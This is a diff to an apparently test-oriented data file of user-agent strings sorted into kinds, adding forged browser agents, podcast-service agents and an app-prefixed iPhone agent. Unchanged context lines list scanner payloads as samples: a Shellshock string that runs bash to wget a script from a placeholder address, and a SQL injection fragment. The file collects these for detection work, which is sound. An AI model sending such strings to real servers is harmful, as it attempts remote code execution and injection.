@@ -355,6 +355,35 @@ export const AUTOMATED_KINDS: Record<string, AutomatedAgent[]> = {
       category: "other",
     },
   ],
+  "forged browser agents: misspelled parts, a colon after Macintosh, a library joined by a comma (Yauaa's test agents)":
+    [
+      {
+        ua:
+          "Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/60.0.3112.107 Moblie Safari/537.36",
+        token: "unknown",
+        category: "other",
+      },
+      {
+        ua:
+          "Mozilla/5.0 (Macintosh: Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0.3 Safari/605.1.15",
+        token: "unknown",
+        category: "other",
+      },
+      {
+        ua: "hackney/1.6.6, Mozilla/5.0 (Windows NT 6.1; WOW64; rv:29.0) Gecko/20100101 Firefox/29.0",
+        token: "unknown",
+        category: "other",
+      },
+    ],
+  "podcast services saying what they do: a sync with its subscriber count, a downloader (opawg's sample agents)":
+    [
+      {
+        ua: "PlayerFM/1.0 Podcast Sync (0 subscribers; url=https://player.fm/series/series-2567872)",
+        token: "unknown",
+        category: "other",
+      },
+      { ua: "poddl - podcast downloader", token: "unknown", category: "other" },
+    ],
   "scanners that put payloads in the agent": [
     { ua: '() { :; }; /bin/bash -c "wget http://198.51.100.7/x.sh"', token: "unknown", category: "other" },
     { ua: "Mozilla/5.0' or 1=1--", token: "unknown", category: "other" },
@@ -440,6 +469,9 @@ export const PEOPLE_KINDS: Record<string, string[]> = {
   ],
   "quick apps whose agent carries JSON with quotes and braces (no payload; Yauaa's test agents)": [
     'Mozilla/5.0 (Linux; Android 10; ELE-L29 Build/HUAWEIELE-L29; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.134 Mobile Safari/537.36 hap/1110/huawei com.huawei.fastapp/13.5.1.300 fruitcrush.HUAWEI/1.0.4 ({"packageName":"fastappList","type":"other","extra":"{}"})',
+  ],
+  "apps naming themselves before a whole browser agent with a space (Yauaa's test agents)": [
+    "15min/3.2.18 Mozilla/5.0 (iPhone; CPU iPhone OS 13_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 EmbeddedBrowser DeviceUID: 4111C299-2E0A-430D-994A-E63AC824065F",
   ],
   "media apps by product name alone": [
     "Barca/2.8.2",
